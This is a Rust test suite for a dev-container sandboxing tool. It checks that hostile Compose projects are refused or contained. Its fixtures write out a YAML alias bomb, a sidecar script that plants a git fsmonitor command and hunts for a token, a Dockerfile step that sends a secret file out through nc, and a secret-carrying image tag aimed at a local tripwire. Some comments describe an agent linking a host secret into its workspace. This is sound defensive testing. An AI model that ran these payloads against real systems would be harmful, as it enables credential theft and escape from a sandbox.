    ctx.run("down", &["--remove"]).ok();
    assert!(project_containers(&project).is_empty());
}

/// A project whose network is a `macvlan` leg on a host interface, with a subnet over the
/// engine's own bridge, and whose build mounts a BuildKit cache shared by every build on the
/// engine: `up` and `build` are refused naming each request, and neither creates a container,
/// a network or an image of the project.
#[test]
fn resources_reaching_past_the_project_are_refused_before_anything_is_created() {
    let Some(ctx) = TestContext::busybox("hostile_compose_reach") else {
        return;
    };
    let ctx = ctx.isolated();
    let project = own_project(&ctx);
    ctx.remove_images_matching(&format!("{project}-*"));
    ctx.write(
        ".devcontainer/Dockerfile",
        &format!("FROM {BUSYBOX_IMAGE}\nRUN --mount=type=cache,id=shared,target=/c true\n"),
    );
    ctx.write(
        ".devcontainer/docker-compose.yml",
        &format!(
            "services:\n{}    networks: [lan]\n  built:\n    build: {{context: ., pull: false}}\n    \
             command: [\"sleep\", \"100000\"]\n    scale: 4\n\
             networks:\n  lan:\n    driver: macvlan\n    driver_opts: {{parent: lo}}\n    \
             ipam: {{config: [{{subnet: \"172.17.200.0/24\"}}]}}\n",
            sleeper("app")
        ),
    );
    let ctx = ctx.config(&CONFIG.replace("SERVICE", "app"));
    let label = format!("label=com.docker.compose.project={project}");
    for command in ["up", "build"] {
        let refused = ctx.run(command, &[]);
        let stderr = refused.failed();
        for flag in [
            "--allow runtime-option:network_driver=macvlan",
            "--allow runtime-option:network_driver_opt.parent=lo",
            "--allow runtime-option:build_cache_mount=built",
            "--allow runtime-option:replicas=4",
        ] {
            assert!(stderr.contains(flag), "{command}: {flag}: {stderr}");
        }
        assert!(project_containers(&project).is_empty(), "{command}");
        assert!(
            docker_lines(&["network", "ls", "-q", "--filter", &label]).is_empty(),
            "{command} created a network"
        );
        assert!(
            docker_lines(&[
                "images",
                "-q",
                "--filter",
                &format!("reference={project}-*")
            ])
            .is_empty(),
            "{command} built an image"
        );
    }
}

/// A Compose file that is a YAML alias bomb ("billion laughs": nine levels of nine aliases),
/// which Compose expands for minutes, growing by gigabytes.
fn alias_bomb() -> String {
    let mut lines =
        vec![r#"x-a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]"#.to_string()];
    let mut previous = 'a';
    for level in "bcdefghi".chars() {
        let refs = vec![format!("*{previous}"); 9].join(",");
        lines.push(format!("x-{level}: &{level} [{refs}]"));
        previous = level;
    }
    lines.push(format!(
        "services:\n  bomb:\n    image: {BUSYBOX_IMAGE}\n    labels:\n      bomb: *{previous}"
    ));
    lines.join("\n") + "\n"
}

/// The processes whose command line contains `needle` and `compose`.
fn compose_processes(needle: &str) -> Vec<String> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else {
            continue;
        };
        let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
        let zombie = std::fs::read_to_string(entry.path().join("stat")).is_ok_and(|s| {
            s.rsplit(')')
                .next()
                .is_some_and(|r| r.trim_start().starts_with('Z'))
        });
        if cmdline.contains(needle) && cmdline.contains("compose") && !zombie {
            out.push(format!(
                "{}: {cmdline}",
                entry.file_name().to_string_lossy()
            ));
        }
    }
    out
}

/// No Compose process naming `needle` within 10 s.
fn no_compose_left(needle: &str) -> Vec<String> {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    loop {
        let left = compose_processes(needle);
        if left.is_empty() || std::time::Instant::now() > deadline {
            return left;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
}

/// A Compose file that is a YAML alias bomb (issue 25, class 6; spec-note 0425). Named in
/// `dockerComposeFile`, devcell refuses it before Compose runs. Included by that file (which
/// devcell does not judge for this), Compose gets it: `up` fails with a clear error at the
/// `config` deadline (`DEVCELL_COMPOSE_CONFIG_TIMEOUT`, 5 s here) and no Compose process is
/// left; with the default deadline, a SIGTERM to devcell during `config` ends devcell and its
/// Compose with it. Nothing is created.
#[test]
fn a_compose_alias_bomb_is_stopped_at_the_deadline_and_dies_with_devcell() {
    use std::time::{Duration, Instant};
    let Some(ctx) = TestContext::busybox("hostile_compose_alias_bomb") else {
        return;
    };
    let ctx = ctx.isolated();
    let project = own_project(&ctx);
    ctx.write(".devcontainer/docker-compose.yml", &alias_bomb());
    let ctx = ctx.config(&CONFIG.replace("SERVICE", "bomb"));
    let needle = ctx
        .tmp()
        .file_name()
        .unwrap()
        .to_string_lossy()
        .into_owned();

    let started = Instant::now();
    let refused = ctx.run("up", &[]);
    let stderr = refused.failed();
    assert!(stderr.contains("is a YAML alias bomb"), "{stderr}");
    assert!(started.elapsed() < Duration::from_secs(60));
    assert_eq!(no_compose_left(&needle), Vec::<String>::new());

    // the bomb included: Compose reads it
    ctx.write(".devcontainer/bomb.yml", &alias_bomb());
    ctx.write(
        ".devcontainer/docker-compose.yml",
        &format!("include:\n  - bomb.yml\nservices:\n{}", sleeper("app")),
    );
    let ctx = ctx.config(&CONFIG.replace("SERVICE", "app"));
    let started = Instant::now();
    let run: crate::support::context::Run = ctx
        .command()
        .env("DEVCELL_COMPOSE_CONFIG_TIMEOUT", "5")
        .args(["up", "--workspace-folder"])
        .arg(ctx.path())
        .long_output()
        .expect("devcell runs")
        .into();
    let stderr = run.failed();
    assert!(
        started.elapsed() < Duration::from_secs(120),
        "{:?}: {stderr}",
        started.elapsed()
    );
    assert!(
        stderr.contains("did not finish within 5 s")
            && stderr.contains("DEVCELL_COMPOSE_CONFIG_TIMEOUT"),
        "{stderr}"
    );
    assert_eq!(no_compose_left(&needle), Vec::<String>::new());
    assert!(project_containers(&project).is_empty());

    // the default deadline, and devcell stopped by SIGTERM while Compose expands
    let mut up = ctx
        .command()
        .args(["up", "--workspace-folder"])
        .arg(ctx.path())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let waiting = Instant::now() + Duration::from_secs(60);
    while compose_processes(&needle).is_empty() {
        assert!(Instant::now() < waiting, "Compose never started");
        std::thread::sleep(Duration::from_millis(50));
    }
    std::thread::sleep(Duration::from_millis(500));
    let pid = rustix::process::Pid::from_raw(up.id() as i32).unwrap();
    rustix::process::kill_process(pid, rustix::process::Signal::TERM).unwrap();
    let deadline = Instant::now() + Duration::from_secs(30);
    let status = loop {
        if let Some(status) = up.try_wait().unwrap() {
            break status;
        }
        assert!(
            Instant::now() < deadline,
            "devcell still runs 30 s after SIGTERM"
        );
        std::thread::sleep(Duration::from_millis(50));
    };
    assert_eq!(status.code(), Some(143));
    assert_eq!(no_compose_left(&needle), Vec::<String>::new());
    assert!(project_containers(&project).is_empty());
}

/// Compose `up` waiting for a health check that never passes (issue 25, class 6; spec-note
/// 0425): `app` depends on `db` being healthy, and `db`'s first check comes after an hour. `up`
/// ends at the long Compose deadline (`DEVCELL_COMPOSE_TIMEOUT`, 5 s here) with a clear
/// error naming the variable, and no Compose process is left.
#[test]
fn a_compose_up_waiting_for_a_health_check_that_never_passes_ends_at_the_deadline() {
    use std::time::{Duration, Instant};
    let Some(ctx) = TestContext::busybox("hostile_compose_never_healthy") else {
        return;
    };
    let ctx = ctx.isolated();
    let project = own_project(&ctx);
    ctx.write(
        ".devcontainer/docker-compose.yml",
        &format!(
            "services:\n{}    depends_on:\n      db:\n        condition: service_healthy\n{}    healthcheck:\n      test: [\"CMD\", \"true\"]\n      interval: 1h\n      start_period: 1h\n",
            sleeper("app"),
            sleeper("db")
        ),
    );
    let ctx = ctx.config(&CONFIG.replace("SERVICE", "app"));
    let needle = ctx
        .tmp()
        .file_name()
        .unwrap()
        .to_string_lossy()
        .into_owned();
    let started = Instant::now();
    let run: crate::support::context::Run = ctx
        .command()
        .env("DEVCELL_COMPOSE_TIMEOUT", "5")
        .args(["up", "--workspace-folder"])
        .arg(ctx.path())
        .long_output()
        .expect("devcell runs")
        .into();
    let stderr = run.failed();
    assert!(
        started.elapsed() < Duration::from_secs(120),
        "{:?}: {stderr}",
        started.elapsed()
    );
    assert!(
        stderr.contains("`docker compose up` did not finish within 5 s")
            && stderr.contains("DEVCELL_COMPOSE_TIMEOUT"),
        "{stderr}"
    );
    assert_eq!(no_compose_left(&needle), Vec::<String>::new());
    // the primary never started (Compose was waiting for `db` when it was stopped)
    let containers = project_containers(&project);
    assert!(
        !containers.iter().any(|c| c.ends_with(" app running")),
        "{containers:?}"
    );
}

/// Issue 25 class 1 through a sidecar (spec-note 0436): a Compose service binding the folder
/// above the repository (`../..:/w`, granted) sees the repository folder as a plain folder of
/// its bind. It must not rename it (to plant a git directory in its place), nor rename or write
/// the host's `.git`, nor read the host's `.git/config` (a token there) through a read-only bind
/// of `.git`: the primary's covers and mount points are repeated in the sidecar.
#[test]
fn a_sidecar_binding_the_folder_above_the_repository_cannot_rename_it_or_read_its_git() {
    use crate::support::hostile::{HostTarget, HostileRepo};
    let Some(repo) = HostileRepo::busybox_at("hostile_compose_sidecar_above", "repo") else {
        return;
    };
    let target = HostTarget::new();
    let project = own_project(repo.context());
    let name = repo
        .path()
        .file_name()
        .unwrap()
        .to_str()
        .unwrap()
        .to_string();
    let out = format!("/w/{name}/out/side.txt");
    let side_script = format!(
        "R=/w/{name}; \
         mv $$R $$R-old 2>/dev/null && echo renamed-repo >> $$R-old/out/side.txt; \
         mv $$R/.git $$R/git-old 2>/dev/null && echo renamed-git >> {out}; \
         printf '[core]\\n\\tfsmonitor = touch {m}\\n' >> $$R/.git/config 2>/dev/null; \
         grep -q devcell-secret-token $$R/.git/config /g/config 2>/dev/null && echo read-config >> {out}; \
         echo done >> {out}; sleep 100000",
        m = target.marker().display()
    );
    let side = serde_json::to_string(&["sh", "-c", &side_script]).unwrap();
    repo.config(
        r#"{"dockerComposeFile": "docker-compose.yml", "service": "app", "remoteUser": "nobody",
            "updateRemoteUserUID": true, "workspaceFolder": "/workspace"}"#,
    )
    .file(
        ".devcontainer/docker-compose.yml",
        &format!(
            "services:\n  app:\n    image: {BUSYBOX_IMAGE}\n    command: [\"sleep\", \"100000\"]\n    \
             volumes: [\"..:/workspace\"]\n  side:\n    image: {BUSYBOX_IMAGE}\n    \
             volumes: [\"../..:/w\", \"../.git:/g:ro\"]\n    command: {side}\n"
        ),
    )
    .file("out/.keep", "")
    .commit();
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(
        repo.path().join("out"),
        std::fs::Permissions::from_mode(0o777),
    )
    .unwrap();
    crate::support::git::git(
        repo.path(),
        &["config", "devcell.token", "devcell-secret-token"],
    );
    let config = repo.path().join(".git/config");
    let before = std::fs::read(&config).unwrap();
    let agent = "i=0; while ! grep -q done out/side.txt 2>/dev/null && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done; true";
    let settings = repo.context().tmp().join("config.toml");
    std::fs::write(
        &settings,
        format!(
            "[agents.a]\ncommand = {}\n",
            serde_json::to_string(&["sh", "-c", agent]).unwrap()
        ),
    )
    .unwrap();
    let parent = std::fs::canonicalize(repo.path().parent().unwrap()).unwrap();
    let grant = format!("mount:{}", parent.display());
    let run = repo.context().run(
        "handoff",
        &[
            "--agent",
            "a",
            "--config-file",
            settings.to_str().unwrap(),
            "--allow",
            &grant,
            "--format",
            "json",
        ],
    );
    assert_eq!(run.code, Some(0), "{}\n{}", run.stdout, run.stderr);
    let side_out = std::fs::read_to_string(repo.path().join("out/side.txt")).unwrap_or_default();
    assert_eq!(
        side_out, "done\n",
        "the sidecar renamed or read nothing it must not"
    );
    assert!(repo.path().join(".git").is_dir());
    assert_eq!(std::fs::read(&config).unwrap(), before);
    let _ = std::process::Command::new("git")
        .args(["-c", "safe.directory=*", "status", "--porcelain"])
        .current_dir(repo.path())
        .output();
    target.assert_untouched();
    repo.context().run("down", &["--remove"]);
    assert!(project_containers(&project).is_empty());
}

/// Attack G6 (spec-note 0613): two workspaces with the same folder name, `<tmp>/pa/<w>` and
/// `<tmp>/pb/<w>`, share the reference's project name. The victim's project volume is
/// written, its containers removed (as after `delete`, which keeps named volumes); the other
/// workspace's `up` is refused naming the volume and the victim's folder, and so is a
/// repository anywhere whose files name the victim's project (`name:`). Nothing of theirs
/// mounts the volume, and the victim's own next `up` still gets its data.
#[test]
fn a_workspace_with_the_same_folder_name_never_mounts_the_others_volumes() {
    let Some(victim) = TestContext::busybox("hostile_compose_same_name_a") else {
        return;
    };
    let Some(attacker) = TestContext::busybox("hostile_compose_same_name_b") else {
        return;
    };
    let Some(named) = TestContext::busybox("hostile_compose_same_name_c") else {
        return;
    };
    let folder = crate::support::per_run("ws-g6");
    let victim = victim.isolated().at(&format!("pa/{folder}"));
    let attacker = attacker.isolated().at(&format!("pb/{folder}"));
    let named = named.isolated().at("pc/evil");
    let project = own_project(&victim);
    assert_eq!(project, own_project(&attacker), "one project name for both");
    let volume = format!("{project}_db");
    victim.cleanup().volume(&volume);
    named.clean_label(&format!("com.docker.compose.project={project}"));
    let compose = |name: &str| {
        format!(
            "{name}services:\n{}    volumes: [\"db:/db\"]\nvolumes:\n  db: {{}}\n",
            sleeper("app")
        )
    };
    let config = CONFIG.replace("SERVICE", "app");
    victim.write(".devcontainer/docker-compose.yml", &compose(""));
    let victim = victim.config(&config);
    victim.up(&[]);
    let label = docker_lines(&[
        "volume",
        "inspect",
        "--format",
        "{{index .Labels \"devcell.volume_workspace\"}}",
        &volume,
    ]);
    assert_eq!(label, [victim.path().display().to_string()]);
    let written = std::process::Command::new("docker")
        .args(["run", "--rm", "-v", &format!("{volume}:/db")])
        .args([BUSYBOX_IMAGE, "sh", "-c", "echo VICTIM-SECRET > /db/secret"])
        .bounded_output()
        .unwrap();
    assert!(written.status.success(), "{written:?}");
    for line in project_containers(&project) {
        docker_lines(&["rm", "-f", line.split(' ').next().unwrap()]);
    }
    assert!(project_containers(&project).is_empty());
    let users = || docker_lines(&["ps", "-aq", "--filter", &format!("volume={volume}")]);

    attacker.write(".devcontainer/docker-compose.yml", &compose(""));
    let attacker = attacker.config(&config);
    named.write(
        ".devcontainer/docker-compose.yml",
        &compose(&format!("name: {project}\n")),
    );
    let named = named.config(&config);
    for (who, ctx) in [("same folder name", &attacker), ("`name:`", &named)] {
        let settings = ctx.tmp().join("config.toml");
        std::fs::write(&settings, "[agents.a]\ncommand = [\"true\"]\n").unwrap();
        let settings = settings.to_str().unwrap();
        let plan = ["--plan", "--agent", "a", "--config-file", settings];
        let handoff = ["--agent", "a", "--config-file", settings];
        for (command, args) in [("up", &[][..]), ("handoff", &plan), ("handoff", &handoff)] {
            let refused = ctx.run(command, args);
            let stderr = &refused.stderr;
            assert!(
                matches!(refused.code, Some(1 | 12)),
                "{who} {command}: {stderr}"
            );
            assert!(
                stderr.contains(&format!("--allow volume:{volume}"))
                    && stderr.contains(&victim.path().display().to_string()),
                "{who} {command}: {stderr}"
            );
            assert!(project_containers(&project).is_empty(), "{who} {command}");
            assert!(users().is_empty(), "{who} {command}: {:?}", users());
        }
    }

    // the victim's own volume is still its own, data and all
    victim.up(&[]);
    let (code, out, err) = victim.sh("cat /db/secret");
    assert_eq!((code, out.trim()), (0, "VICTIM-SECRET"), "{err}");
    victim.run("down", &["--remove"]).ok();
    assert!(project_containers(&project).is_empty());
}

/// Attack G9 (spec-note 0612): a service built `FROM` a base image whose `ONBUILD` trigger
/// mounts a BuildKit cache shared with every build on the engine. The Dockerfile shows
/// nothing; `up` is refused naming the base, its trigger and its grant before anything is
/// built or created (no image of the service, no container).
#[test]
fn an_onbuild_cache_mount_never_reaches_another_workspaces_cache() {
    let Some(ctx) = TestContext::busybox("hostile_compose_onbuild") else {
        return;
    };
    let ctx = ctx.isolated();
    let pid = std::process::id();
    let base = format!("devcell-test/onbuild-{pid}:1");
    ctx.cleanup().image(&base);
    let dir = ctx.tmp().join("base");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("Dockerfile"),
        format!(
            "FROM {BUSYBOX_IMAGE}\nONBUILD RUN --mount=type=cache,id=devcell-onbuild-{pid},target=/c \
             sh -c 'echo planted > /c/secret'\n"
        ),
    )
    .unwrap();
    let built = std::process::Command::new("docker")
        .args(["build", "-q", "-t", &base])
        .arg(&dir)
        .bounded_output()
        .unwrap();
    assert!(built.status.success(), "{built:?}");
    let project = own_project(&ctx);
    ctx.write(".devcontainer/Dockerfile", &format!("FROM {base}\n"));
    ctx.write(
        ".devcontainer/docker-compose.yml",
        "services:\n  app:\n    build: {context: ., dockerfile: Dockerfile}\n    command: [\"sleep\", \"100000\"]\n",
    );
    let ctx = ctx.config(&CONFIG.replace("SERVICE", "app"));
    let refused = ctx.run("up", &[]);
    let flag = format!("--allow runtime-option:build_onbuild=app:{base}");
    assert!(refused.stderr.contains(&flag), "{}", refused.stderr);
    assert!(refused.stderr.contains("ONBUILD"), "{}", refused.stderr);
    assert!(project_containers(&project).is_empty());
    let images = docker_lines(&["images", "-q", &format!("{project}-app")]);
    assert!(images.is_empty(), "built: {images:?}");
}

/// Attack H5 (spec-note 0400): `models:` has Compose start the host's Model plugin (a pull of
/// whatever model the file names over the host's network, a runner on the host), and a key
/// devcell does not judge (`annotations`, which OCI runtimes act on) went to Compose as
/// written. `up` is refused naming each (the model as a `host-command`, read from the file
/// since `docker compose config` drops it; the key with its service), before Compose creates
/// anything.
#[test]
fn models_and_unknown_keys_are_refused_before_compose_runs() {
    let Some(ctx) = TestContext::busybox("hostile_compose_models") else {
        return;
    };
    let ctx = ctx.isolated();
    let project = own_project(&ctx);
    let file = format!(
        "services:\n{}  side:\n    image: {BUSYBOX_IMAGE}\n    annotations: {{run.oci.keep_original_groups: \"1\"}}\n    models: [llm]\nmodels:\n  llm: {{model: ai/smollm2}}\n",
        sleeper("app")
    );
    ctx.write(".devcontainer/docker-compose.yml", &file);
    let ctx = ctx.config(&CONFIG.replace("SERVICE", "app"));
    let refused = ctx.run("up", &[]);
    let err = &refused.stderr;
    assert!(!refused.success(), "{err}");
    assert!(err.contains("--allow host-command:sha256:"), "{err}");
    assert!(err.contains("ai/smollm2"), "{err}");
    assert!(err.contains("(`models.llm`)"), "{err}");
    // the file's models are refused before Compose reads the project; granting them shows the
    // service's own requests
    assert!(project_containers(&project).is_empty());
    let grant = err
        .split_whitespace()
        .find(|w| w.starts_with("host-command:sha256:"))
        .map(|w| w.trim_matches(|c: char| !c.is_ascii_alphanumeric() && c != ':' && c != '-'))
        .unwrap_or_default()
        .to_string();
    assert!(!grant.is_empty(), "{err}");
    let refused = ctx.run("up", &["--allow", &grant]);
    let err = &refused.stderr;
    assert!(!refused.success(), "{err}");
    assert!(
        err.contains("--allow runtime-option:compose_key=side.annotations"),
        "{err}"
    );
    assert!(err.contains("Compose service `side` (`models`)"), "{err}");
    assert!(project_containers(&project).is_empty());
}

/// A service's image build during a closed handoff (attacks K8, spec-note 0442): Compose
/// builds a `build:` on the engine's default network unless told otherwise, so a Dockerfile
/// `RUN` step could send the workspace away while the container itself has no network. Under
/// `--network none` the primary's build and a sidecar's get `build.network: none`: the
/// listener on the engine's bridge address gets no connection and the `RUN` steps see no
/// route; a repository's own `build.network` is a `build-network` request, refused.
#[test]
fn a_service_build_in_a_closed_handoff_has_no_network() {
    let Some(ctx) = TestContext::busybox("hostile_compose_build_net") else {
        return;
    };
    let ctx = ctx.isolated();
    let project = own_project(&ctx);
    ctx.remove_images_matching(&format!("{project}-*"));
    let listener = super::env_and_build::Listener::start();
    let (host, port) = listener.address.rsplit_once(':').unwrap();
    ctx.write(".env.local", "AWS_SECRET=s3cr3t-from-workspace\n");
    ctx.write(
        ".devcontainer/Dockerfile",
        &format!(
            "FROM {BUSYBOX_IMAGE}\nCOPY .env.local /tmp/s\nRUN (if nc -w 3 {host} {port} < /tmp/s; then echo reached; else echo unreachable; fi; echo routes=$(tail -n +2 /proc/net/route | wc -l)) > /probe.txt\n"
        ),
    );
    let build = "    build: {context: .., dockerfile: .devcontainer/Dockerfile}\n    command: [\"sleep\", \"100000\"]\n";
    let file = format!("services:\n  app:\n{build}  side:\n{build}");
    ctx.write(".devcontainer/docker-compose.yml", &file);
    let ctx = ctx.config(&CONFIG.replace("SERVICE", "app"));
    let run = ctx.run("up", &["--network", "none"]);
    assert!(run.success(), "{}", run.failed());
    assert_eq!(listener.hits(), 0, "a service's build reached the bridge");
    for service in ["app", "side"] {
        let image = format!("{project}-{service}");
        let probe = docker_lines(&["run", "--rm", &image, "cat", "/probe.txt"]);
        assert_eq!(probe, ["unreachable", "routes=0"], "{service}");
    }
    ctx.run("down", &["--remove"]).ok();
    assert!(project_containers(&project).is_empty());

    // the repository's own build network is a request under a closed network
    ctx.remove_images_matching(&format!("{project}-*"));
    ctx.write(
        ".devcontainer/docker-compose.yml",
        &file.replacen("    build: {", "    build: {network: default, ", 1),
    );
    let refused = ctx.run("up", &["--network", "none"]);
    let stderr = refused.failed();
    assert!(stderr.contains("build-network"), "{stderr}");
    assert_eq!(listener.hits(), 0);
    assert!(project_containers(&project).is_empty());
}

/// Attack (issue 25, N17): the agent links `.devcontainer/.env` (the project's env file, beside
/// the Compose file) to a host secret file, dangling inside the container and resolved on the
/// host. Compose read it as the project's `.env` and interpolated its `key=value` lines: the
/// secret went out in a registry request (a sidecar's image tag) and into the container's
/// environment. devcell reads the env file itself and hands Compose its own copy: the link is
/// a request (`--allow compose-file:<the secret's path>`), nothing is pulled or created, and
/// the secret is in no output. A regular `.env` in the workspace still reaches the container.
#[test]
fn a_project_env_file_linked_to_a_host_secret_is_never_read_by_compose() {
    let Some(ctx) = TestContext::busybox("hostile_compose_dot_env_link") else {
        return;
    };
    let ctx = ctx.isolated();
    let project = own_project(&ctx);
    let (port, hits) = tripwire();
    let hits = || hits.load(std::sync::atomic::Ordering::SeqCst);
    let host = tempfile::tempdir().expect("tempdir");
    let secret_file = host.path().join("credentials");
    std::fs::write(
        &secret_file,
        "[default]\naws_secret_access_key=HOSTSECRET123abc\n",
    )
    .unwrap();
    let secret_path = secret_file.canonicalize().unwrap().display().to_string();
    let ctx = ctx.config(&CONFIG.replace("SERVICE", "app"));
    let app = format!(
        "  app:\n    image: {BUSYBOX_IMAGE}\n    command: [\"sleep\", \"100000\"]\n    environment:\n      LEAK: \"${{aws_secret_access_key:-none}}\"\n"
    );
    ctx.write(
        ".devcontainer/docker-compose.yml",
        &format!(
            "services:\n{app}  side:\n    image: \"127.0.0.1:{port}/exfil/env:${{aws_secret_access_key:-none}}\"\n"
        ),
    );
    let dot_env = ctx.path().join(".devcontainer/.env");
    std::os::unix::fs::symlink(&secret_file, &dot_env).unwrap();
    for command in ["up", "build"] {
        let refused = ctx.run(command, &[]);
        let stderr = refused.failed();
        assert!(
            stderr.contains(&format!("--allow compose-file:{secret_path}")),
            "{command}: {stderr}"
        );
        assert!(!stderr.contains("HOSTSECRET"), "{command}: {stderr}");
        assert!(!refused.stdout.contains("HOSTSECRET"), "{command}");
        assert_eq!(hits(), 0, "{command}: the secret's tag was pulled");
        assert!(project_containers(&project).is_empty(), "{command}");
    }
    // a regular `.env` of the repository: its values reach the container through devcell's copy
    std::fs::remove_file(&dot_env).unwrap();
    ctx.write(
        ".devcontainer/.env",
        "aws_secret_access_key=from-the-repository\n",
    );
    ctx.write(
        ".devcontainer/docker-compose.yml",
        &format!("services:\n{app}"),
    );
    ctx.run("up", &[]).ok();
    let (code, out, err) = ctx.sh("printf %s \"$LEAK\"");
    assert_eq!((code, out.as_str()), (0, "from-the-repository"), "{err}");
    assert_eq!(hits(), 0);
}

/// Attack O4: a sidecar that binds the workspace ran on through `up --remove-existing-container`
/// (only the primary was removed) and swapped a judged bind source for a link to a host folder
/// before the engine mounted it. devcell now stops the workspace's running containers and
/// their Compose peers before it judges the project. Pinned where no timing is involved: the
/// new Compose file is refused (a privileged service), and the sidecar is already stopped,
/// where it used to run on.
#[test]
fn remove_existing_container_stops_the_projects_sidecars_before_judging() {
    sidecar_stopped_before_judging("compose_stops_sidecars_before_judging", Primary::Kept);
}

/// Attack P5: the same swap through a plain `up` of a project whose primary had stopped (its
/// `command` ended) while a sidecar ran on: `compose start` let the engine follow the link.
/// devcell now stops the sidecar before it reads the project whenever no primary runs; where
/// it used to run on through the refused `up`.
#[test]
fn a_plain_up_of_a_stopped_primary_stops_the_sidecars_before_judging() {
    sidecar_stopped_before_judging("compose_stopped_primary_sidecars", Primary::Stopped);
}

/// Attack P5 with the primary removed by hand (`docker rm -f`): no primary led to the running
/// sidecar, so nothing was stopped and it ran on through the refused `up`. devcell now stops
/// the running containers of a project brought up from the workspace's own Compose files.
#[test]
fn a_plain_up_with_the_primary_removed_stops_the_sidecars_before_judging() {
    sidecar_stopped_before_judging("compose_removed_primary_sidecars", Primary::Removed);
}

/// What the test does to the primary before the second `up`.
#[derive(PartialEq)]
enum Primary {
    /// Nothing: the `up` is `--remove-existing-container`.
    Kept,
    /// Stopped by hand; a plain `up`.
    Stopped,
    /// Removed by hand; a plain `up`.
    Removed,
}

/// Brings up `app` and a `side` that binds the workspace; with `primary` stopped or removed
/// stops or removes `app` by hand and runs a plain `up`, else `up --remove-existing-container`,
/// of a refused project: the sidecar is stopped after the refusal.
fn sidecar_stopped_before_judging(name: &str, primary: Primary) {
    let Some(ctx) = TestContext::busybox(name) else {
        return;
    };
    let ctx = ctx.isolated();
    let project = own_project(&ctx);
    let side = format!(
        "  side:\n    image: {BUSYBOX_IMAGE}\n    volumes: [\"..:/ws\"]\n    command: [\"sleep\", \"100000\"]\n"
    );
    ctx.write(
        ".devcontainer/docker-compose.yml",
        &format!("services:\n{}{side}", sleeper("app")),
    );
    let ctx = ctx.config(&CONFIG.replace("SERVICE", "app"));
    ctx.up(&[]);
    let running = |service: &str| {
        project_containers(&project)
            .iter()
            .filter(|l| l.contains(&format!(" {service} ")) && l.ends_with(" running"))
            .count()
    };
    assert_eq!(running("side"), 1, "{:?}", project_containers(&project));
    let args: &[&str] = if primary != Primary::Kept {
        let app = project_containers(&project)
            .into_iter()
            .find(|l| l.contains(" app "))
            .expect("the primary");
        let id = app.split_whitespace().next().unwrap().to_string();
        let how: &[&str] = if primary == Primary::Removed {
            &["rm", "-f", "-v", &id]
        } else {
            &["stop", "-t", "0", &id]
        };
        assert!(crate::support::engine::docker(how).0, "the primary stops");
        assert_eq!(running("app"), 0, "{:?}", project_containers(&project));
        &[]
    } else {
        &["--remove-existing-container"]
    };
    ctx.write(
        ".devcontainer/docker-compose.yml",
        &format!("services:\n{}    privileged: true\n{side}", sleeper("app")),
    );
    let run = ctx.run("up", args);
    assert_ne!(run.code, Some(0), "{}", run.stdout);
    assert!(
        run.stdout.contains("privileged") || run.stderr.contains("privileged"),
        "{}\n{}",
        run.stdout,
        run.stderr
    );
    assert_eq!(
        running("side"),
        0,
        "the sidecar ran on while devcell judged: {:?}\n{}",
        project_containers(&project),
        run.stderr
    );
}

/// Attack 24, O4's remainder: a running container devcell does not own (another
/// workspace's, one started by hand) that binds the workspace writable could swap a judged
/// bind source for a link to a host folder before the engine mounts it, and devcell cannot
/// stop it. Under `hardened` the Compose `up` is refused naming it, before anything of the
/// project is made; a read-only bind of the workspace is no writer.
#[test]
fn a_running_container_devcell_does_not_own_binding_the_workspace_refuses_up() {
    use crate::support::engine::{assert_refused_for_writer, docker, start_writer};
    let Some(ctx) = TestContext::busybox("compose_foreign_writer") else {
        return;
    };
    let ctx = ctx.isolated();
    let project = own_project(&ctx);
    let name = format!("devcell-test-foreign-{}", crate::support::run_token());
    ctx.cleanup().container(&name);
    std::fs::create_dir_all(ctx.path().join("data")).unwrap();
    ctx.write(
        ".devcontainer/docker-compose.yml",
        &format!("services:\n{}", sleeper("app")),
    );
    let ctx = ctx.config(&CONFIG.replace("SERVICE", "app"));
    let ws = ctx.path().display().to_string();
    let started = |mode: &str| start_writer(&name, &format!("{ws}/data:/w{mode}"), &[]);
    started("");
    let run = ctx.run("up", &[]);
    assert_refused_for_writer(&run, &name);
    assert!(
        project_containers(&project).is_empty(),
        "created: {:?}",
        project_containers(&project)
    );
    // read-only: not a writer
    let (ok, out) = docker(&["rm", "-f", &name]);
    assert!(ok, "{out}");
    started(":ro");
    let run = ctx.run("up", &[]);
    assert_eq!(run.code, Some(0), "{}\n{}", run.stdout, run.stderr);
}

/// Attack 26, Q1: a container that runs a repository's code (here labelled as another
/// workspace's dev container, as the outer workspace's container of a nested repository is)
/// binding a folder *above* the workspace writable can swap a bind source inside the workspace
/// for a link to a host folder between the judgement and the engine's mount. The Compose `up`
/// is refused naming it, before anything of the project is made; the same bind by a container
/// without such labels (a toolbox container of the user's) is not counted.
#[test]
fn another_workspaces_container_binding_the_folder_above_refuses_up() {
    use crate::support::engine::{assert_refused_for_writer, docker, start_writer};
    let Some(ctx) = TestContext::busybox("compose_foreign_writer_above") else {
        return;
    };
    let token = crate::support::run_token();
    let ctx = ctx.isolated().at(&format!("inner-{token}"));
    let project = own_project(&ctx);
    let name = format!("devcell-test-foreign-above-{token}");
    ctx.cleanup().container(&name);
    ctx.write(
        ".devcontainer/docker-compose.yml",
        &format!("services:\n{}", sleeper("app")),
    );
    let ctx = ctx.config(&CONFIG.replace("SERVICE", "app"));
    let outer = std::fs::canonicalize(ctx.tmp()).unwrap();
    let bind = format!("{}:/outer", outer.display());
    let local_folder = format!("devcontainer.local_folder={}", outer.display());
    let started = |labels: &[&str]| start_writer(&name, &bind, labels);
    started(&[&local_folder]);
    let run = ctx.run("up", &[]);
    assert_refused_for_writer(&run, &name);
    assert!(
        project_containers(&project).is_empty(),
        "created: {:?}",
        project_containers(&project)
    );
    // a container of the user's own (no dev container or Compose label): not counted
    let (ok, out) = docker(&["rm", "-f", &name]);
    assert!(ok, "{out}");
    started(&[]);
    let run = ctx.run("up", &[]);
    assert_eq!(run.code, Some(0), "{}\n{}", run.stdout, run.stderr);
}
